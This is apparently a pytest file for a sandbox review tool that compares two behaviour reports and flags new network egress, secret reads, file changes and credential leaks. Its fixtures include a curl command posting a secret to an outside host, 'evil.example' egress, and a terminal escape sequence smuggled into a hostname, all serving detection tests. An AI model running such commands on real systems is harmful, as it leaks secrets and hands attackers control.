"""Two reviews against each other: what is told as a change, and what is none."""

from __future__ import annotations

import json

import pytest
from made import LABEL, attempt, handler, made, refusing, run, sighting, touched

from stockade.sandbox.review.changes import lines
from stockade.sandbox.review.compare import compare
from stockade.sandbox.review.findings import find


def reviewed(*runs, **fields):
    handlers = fields.pop("handlers", (handler(),))
    return made(*runs, findings=find(handlers, runs), handlers=handlers, **fields)


def changes(old, new):
    return [(each.kind, each.old, each.new) for each in compare(reviewed(*old), reviewed(*new)).changes]


BEHAVIOUR = [
    ({"egress": (attempt("a.example"),)}, ("contacts", "", "tcp a.example:443")),
    ({"reads": ("ssh-key",)}, ("opens", "", "ssh-key")),
    ({"touched": (touched(".bashrc", "home"),)}, ("files", "", "changed .bashrc")),
    ({"commands": ("/usr/bin/curl -d secret http://x",)}, ("runs", "", "curl")),
    ({"left_running": 2}, ("leaves", "", "processes that go on running")),
    ({"sightings": (sighting(),)}, ("sends", "", "aws-credentials (plain) in egress")),
]


@pytest.mark.parametrize(("fields", "expected"), BEHAVIOUR)
def test_what_is_new_and_what_is_no_more(fields, expected):
    kind, _nothing, text = expected
    assert changes([run()], [run(**fields)]) == [expected]
    assert changes([run(**fields)], [run()]) == [(kind, text, "")]
    assert changes([run(**fields)], [run(**fields)]) == []


def test_answers():
    assert changes([refusing()], [run("destructive-shell")]) == [
        ("answers", "destructive-shell: exit 0, deny", "destructive-shell: exit 0, no objection")
    ]
    both = [refusing(), run("destructive-shell", attempt=2)]
    assert changes(both, both[::-1]) == []


def test_what_differs_from_run_to_run_is_no_change():
    one, two = (run(egress=(attempt(f"{letters * 40}.evil.example"),)) for letters in "ab")
    assert changes([one], [two]) == []
    assert changes([run(touched=(touched("/tmp/a", "tmp"),))], [run()]) == []


def test_findings_and_handlers():
    old = reviewed(run(left_running=1))
    new = reviewed(run(egress=(attempt(),), sightings=(sighting(),)), handlers=(handler(), handler(label="second")))
    found = compare(old, new)
    assert [each.rule for each in found.appeared] == ["exfiltrates", "contacts-network"]
    assert [each.rule for each in found.gone] == ["spawns-daemons"]
    assert (found.added, found.removed, found.same) == (("second",), (), False)
    assert compare(new, old).removed == ("second",)


def test_a_finding_that_became_worse_is_a_new_one():
    mild, grave = (
        reviewed(run(reads=("ssh-key",))),
        reviewed(run(reads=("ssh-key",), sightings=(sighting(canary="ssh-key"),))),
    )
    found = compare(mild, grave)
    assert "reads-secrets" in [each.rule for each in found.appeared]
    assert "(was medium)" in "\n".join(lines(found))
    assert "reads-secrets" not in [each.rule for each in compare(grave, mild).appeared]
    assert len(compare(grave, mild).regraded) == 1


def test_what_was_not_reviewed_is_not_the_same():
    found = compare(reviewed(run()), reviewed(not_reviewed=((LABEL, "no bwrap"),)))
    assert found.unknown == ((LABEL, "no bwrap"),)
    assert not found.same
    assert found.changes == ()
    assert f"? {LABEL} could not be compared: no bwrap" in list(lines(found))
    assert compare(reviewed(run()), reviewed(run())).same


def test_text_and_document_are_harmless():
    new = reviewed(run(egress=(attempt("\x1b]0;x\x07\n.example"),)))
    found = compare(reviewed(run()), new)
    text = "\n".join(lines(found))
    assert "\x1b" not in text
    assert "\\u001b" in json.dumps(found.to_json())
    assert found.to_json()["schema"] == "stockade.review-compare/1"
    assert list(lines(compare(new, new))) == ["No change in behaviour was seen."]
